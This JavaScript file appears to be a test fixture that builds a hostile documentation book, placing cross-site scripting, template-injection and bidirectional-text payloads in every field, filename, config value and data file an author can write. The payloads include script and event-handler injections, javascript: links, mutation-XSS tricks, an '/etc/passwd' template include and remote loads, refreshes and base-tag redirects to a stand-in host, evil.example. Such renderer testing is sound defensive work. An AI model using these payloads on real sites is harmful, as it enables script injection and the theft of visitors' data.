// Payloads -> a book that has each of them in every place where an author may write. It must not know how any is rendered.
//
// Whatever ran would call `window.__ran`, open a dialog or ask evil.example: what each payload tries.

/** Texts that mean something to browsers, templates, scripts, style sheets, terminals. */
export const PAYLOADS = {
  script: "<script>__ran('script')</script>",
  handler: "<img src=x onerror=\"__ran('handler')\">",
  quote: "\"><img src=//evil.example/quote onerror=__ran('quote')>",
  apostrophe: "' autofocus onfocus='__ran(1)' onmouseover='__ran(2)' x='",
  close: "</title></script></style></textarea></template></noscript></code></pre><script src=//evil.example/close.js></script>",
  comment: "--><!--><script>__ran('comment')</script>--!><svg onload=__ran('comment')>",
  entity: "&lt;script&gt;__ran('entity')&lt;/script&gt; &#60;img src=x onerror=__ran(1)&#62; &amp;lt;script&amp;gt;",
  template: "{{ 7*7 }} {% include \"/etc/passwd\" %} {# gone #} {{ page.content | safe }} ${__ran('template')} <%= 7*7 %>",
  data: "\\\");__ran('data');// \\u003cscript\\u003e \u2028 \u2029 ]]> `${__ran(1)}` '-__ran(2)-'",
  style: "</style><style>@import url(//evil.example/style.css);</style>;background:url(//evil.example/style)",
  bidi: "\u202egnp.exe\u202c \u2066\u2067nested\u2069 \u200b\u200c\u200d\ufeff\u00ad\u2060 \u200f<b>right",
  scheme: "javascript:__ran('scheme')",
  svg: "<svg><script>__ran('svg')</script><a xlink:href=\"javascript:__ran(1)\"><animate attributeName=href values=\"javascript:__ran(2)\" /><text y=20>x</text></a></svg>",
  math: "<math><mtext><table><mglyph><style><img src=x onerror=__ran('math')></style></mglyph></table></mtext></math>",
};

/** Raw HTML that asks for something, and links of every kind. They are blocks of their own. */
const BLOCKS = [
  "<script>__ran('block')</script>",
  "<script src=\"//evil.example/x.js\"></script><script type=module>import '//evil.example/y.js'</script>",
  "<img src=x onerror=__ran(1)> <img src=\"//evil.example/pixel\" srcset=\"//evil.example/2x 2x\">",
  "<svg onload=__ran(2)><set attributeName=onmouseover to=__ran(3) /><use href=\"data:image/svg+xml,<svg id=x onload=__ran(4)>#x\" /></svg>",
  "<iframe src=\"javascript:__ran(5)\"></iframe><iframe srcdoc=\"<script>parent.__ran(6)</script>\"></iframe><iframe src=\"//evil.example/frame\"></iframe>",
  "<object data=\"//evil.example/object\"></object><embed src=\"//evil.example/embed\">",
  "<base href=\"//evil.example/\">",
  "<meta http-equiv=refresh content=\"0;url=//evil.example/refresh\">",
  "<META\nHTTP-EQUIV='refresh' content='0;url=javascript:__ran(7)'>",
  "<p title=\"unfinished\n\n<y b=\"><meta http-equiv=refresh content='0;url=//evil.example/split'>\">",
  `<b ${"x=1 ".repeat(1500)}><meta http-equiv=refresh content="0;url=//evil.example/many"></b>`,
  "<link rel=stylesheet href=\"//evil.example/x.css\"><link rel=preconnect href=\"//evil.example\"><link rel=prefetch href=\"//evil.example/p\">",
  "<style>@import url(//evil.example/i.css); body { background: url(//evil.example/b) }</style><p style=\"background:url(//evil.example/s)\">styled</p>",
  "<form action=\"//evil.example/form\"><button formaction=\"javascript:__ran(8)\" autofocus onfocus=__ran(9)>Send</button></form>",
  "<video src=\"//evil.example/v\" onerror=__ran(10) autoplay><source src=x onerror=__ran(11)></video><audio src=x onerror=__ran(12)></audio>",
  "<details open ontoggle=__ran(13)><summary>x</summary></details><body onload=__ran(14)><marquee onstart=__ran(15)>m</marquee>",
  "<a href=\"//evil.example/\" ping=\"//evil.example/ping\">ping</a> <a href=\"java&Tab;script:__ran(16)\">link</a> <a href=\" &#14; javascript:__ran(17)\">link</a>",
  "<noscript><p title=\"</noscript><img src=x onerror=__ran(18)>\"></noscript>",
  "<template><script>__ran(19)</script></template><textarea></textarea><script>__ran(20)</script>",
  "[a](javascript:__ran(21)) [b](JaVaScRiPt:__ran(22)) [c](java&#115;cript:__ran(23)) [d](data:text/html,<script>__ran(24)</script>) [e](vbscript:x)",
  "<javascript:__ran(25)> ![f](javascript:__ran(26)) [g](<java\tscript:__ran(27)>) [h]( javascript:__ran(28))",
  "![picture](evil.svg) <img src=\"evil.svg\"> [the picture](evil.svg)",
  "<div is=\"prepbook-live\" data-practice=drill id=__proto__><a id=prepbook name=prepbook></a><form id=document name=body><input name=attributes></form></div>",
];

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10" onload="__ran('file')">
<script>(parent.__ran || __ran)('svg file')</script><image xlink:href="//evil.example/svg" /><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="//evil.example/f"></iframe></body></foreignObject></svg>
`;

/** A text as a value of YAML, of TOML and of JSON. */
const quoted = (text) => JSON.stringify(text);
/** A text that stays on its line, in a table's cell and in brackets. */
const inLine = (text) => text.replace(/[\u2028\u2029]/g, " ");
const outline = "one two three four five six seven eight nine ten eleven twelve thirteen fourteen fifteen sixteen";

function page(name, payload) {
  const text = inLine(payload);
  const attribute = text.replace(/["\\]/g, "");
  return `---
title: ${quoted(`${name} ${payload}`)}
description: ${quoted(payload)}
outcome: ${quoted(payload)}
tags: [${quoted(payload)}]
difficulty: easy
redirect_from: ${quoted(`/old/${name}.html`)}
---

# ${text}

${text}

## Heading ${text} {#${name}-heading}

*${text}* **${text}** ~~${text}~~ \`${text.replace(/\`/g, "")}\` [${text.replace(/[[\]]/g, "")}](README.md "${attribute}") ![${text.replace(/[[\]]/g, "")}](evil.svg "${attribute}")

> [!NOTE]
> ${text}

| ${text.replace(/\|/g, "")} | b |
|---|---|
| ${text.replace(/\|/g, "")} | c |

- [ ] ${text}

${text}
: ${text}

A note[^1] and another[^${attribute.replace(/[^a-z]/g, "")}x].

[^1]: ${text}

\`\`\`python title="${attribute}" number mark=1
${payload}
\`\`\`

\`\`\`html
${payload}
\`\`\`

    ${text}

:::note[${text}]
${text}
:::

::::tabs{key="${attribute}"}
:::tab[${text}]
${text}
:::
:::tab[Other]
${text}
:::
::::

::::drill[${text}]{#${name}-drill minutes=3 topic=a kind=technical}
${text}

- 1:00 ${text}
- 2:00 ${text}

**Success.**

- ${text}

:::answer[${text}]
${text}
:::
::::

::::story[${text}]{#${name}-story principle=ownership fictional company="${attribute}"}
**Situation.** ${text}

**Task.** ${text}

**Action.** ${text}

**Result.** ${text}

**Metrics.**

- ${text} 29 % to 4 %

:::probe[${text}]
${text}
:::
::::

::::review[${text}]{#${name}-review minutes=5 level=easy language=python file=evil.py}
${text}

:::finding[${text}]{cwe=79 severity=low line=1}
${text}

**Fix.** ${text}
:::

:::decoy[${text}]{line=2}
${text}
:::
::::

:::question[${text}]{#${name}-question topic=a level=easy}
**Outline.** ${text} ${outline}

**Wrong.** ${text}

**Why.** ${text}
:::

:::checklist[${text}]{#${name}-list}
- [ ] ${text} {#${name}-item}
:::

:::calc[${text}]{#${name}-calc}
- ${text.replace(/[:=]/g, "")}: 2 {assumption}
:::

:::attack-tree[${text}]{#${name}-tree}
- ${text} {cost=1}
:::

::::simulation[${text}]{#${name}-simulation minutes=5}
:::segment[${text}]{at=0:00 minutes=5 kind=technical}
${text}

**Signals.** ${text}
:::
::::

:term[${text.replace(/[[\]]/g, "")}] :ref[${text.replace(/[[\]]/g, "")}]{hostile} :claim[${text.replace(/[[\]]/g, "")}]{official ref=hostile}
`;
}

const many = (each) => Object.entries(PAYLOADS).map(([name, payload], number) => each(name, quoted(payload), number)).join("");

const THREAT_MODEL = `id: hostile
title: ${quoted(PAYLOADS.quote)}
scope: ${quoted(PAYLOADS.script)}
elements:
${many((name, text, number) => `  P${number + 1}: {kind: process, name: ${text}, at: [${number % 4}, ${Math.floor(number / 4)}]}\n`)}boundaries:
${many((name, text, number) => `  - {id: B${number + 1}, name: ${text}, contains: [P${number + 1}]}\n`)}flows:
${many((name, text, number) => `  F${number + 1}: {from: P${number + 1}, to: P${((number + 1) % 14) + 1}, data: ${text}, protocol: ${text}}\n`)}threats:
${many((name, text, number) => `  - {id: T${number + 1}, on: F${number + 1}, stride: I, statement: ${text}, likelihood: low, impact: high, response: accept, residual: ${text}}\n`)}`;

/** The files of the book, by path. */
export function files() {
  const pages = Object.entries(PAYLOADS).map(([name, payload]) => [`guide/1-places/${name}.md`, page(name, payload)]);
  const blocks = BLOCKS.map((block, number) => [`guide/2-blocks/block-n${number + 1}.md`, `# Block ${number + 1}\n\nBefore.\n\n${block}\n\nAfter, in line: ${block.replace(/\n+/g, " ")}\n\n- ${block.replace(/\n+/g, " ")}\n\n> ${block.replace(/\n+/g, " ")}\n`]);
  return Object.fromEntries([
    ["book.toml", `[book]
title = ${quoted(`Book ${PAYLOADS.script}`)}
authors = [${quoted(PAYLOADS.quote)}]
description = ${quoted(PAYLOADS.close)}
src = "guide"

[output.html]
git-repository-url = "https://evil.example/"
edit-url-template = "https://evil.example/\\"><script>__ran('edit')</script>/{path}"

[practice]
topics = ["a", ${quoted(PAYLOADS.script)}]
principles = ["Ownership", ${quoted(PAYLOADS.handler)}]

[[lints.banned-phrases]]
phrase = "styled"
use = ${quoted(PAYLOADS.handler)}
`],
    ["guide/README.md", `# Home ${PAYLOADS.script}\n\n${Object.keys(PAYLOADS).map((name) => `- [${name}](1-places/${name}.md)\n`).join("")}`],
    ["guide/1-places/README.md", `# Places\n\n${Object.values(PAYLOADS).map(inLine).join("\n\n")}\n`],
    ["guide/1-places/evil.svg", SVG],
    ["guide/2-blocks/evil.svg", SVG],
    ["guide/1-places/evil.py", `${Object.values(PAYLOADS).map((text) => `x = '''${inLine(text)}'''\n`).join("")}`],
    ["guide/2-blocks/README.md", "# Blocks\n\n[code](../1-places/evil.py)\n"],
    ["guide/3-<img src=x onerror=__ran(1)>.md", "# A name\n"],
    ["guide/4-\u202egnp.md", "# Another name\n"],
    ["guide/5-'onerror='__ran(1)'.md", "# Yet another\n"],
    ["guide/{{ 7*7 }}.md", "# A template's name\n"],
    ["guide/6-table.md", `# A huge table\n\n|${" h |".repeat(200)}\n|${"---|".repeat(200)}\n|${" <b onclick=__ran(1)>c</b> |".repeat(20)}\n${`|${" c |".repeat(200)}\n`.repeat(400)}`],
    ["guide/7-lists.md", `# From data\n\n:::questions{topic=a}\n\n:::plan{src=hostile.plan.yaml}\n\n:::threat-model{src=hostile.threat-model.yaml}\n`],
    ["guide/hostile.threat-model.yaml", THREAT_MODEL],
    ["guide/hostile.questions.yaml", `questions:\n${many((name, text) => `  - {id: ${name}-asked, text: ${text}, topic: a, level: easy, outline: ${text}, wrong: ${text}, why: ${text}, follow-ups: [${text}]}\n`)}`],
    ["guide/hostile.plan.yaml", `id: hostile-plan\ntitle: ${quoted(PAYLOADS.quote)}\ndays:\n${many((name, text, number) => `  - {day: ${number + 1}, goal: ${text}, items: [{do: ${text}, minutes: 30}]}\n`)}`],
    ["guide/glossary.yaml", `terms:\n${many((name, text) => `  - {term: ${text}, also: [${text}], meaning: ${text}}\n`)}`],
    ["guide/references.yaml", `references:\n  - {id: hostile, title: ${quoted(PAYLOADS.script)}, url: 'https://evil.example/'}\n${many((name, text) => `  - {id: ${name}, title: ${text}, url: ${quoted(`https://evil.example/${PAYLOADS[name]}`)}, publisher: ${text}}\n`)}`],
    ["guide/hostile.synonyms.yaml", `synonyms:\n${many((name, text) => `  - words: [${text}, ${name}]\n`)}`],
    ...pages,
    ...blocks,
  ]);
}
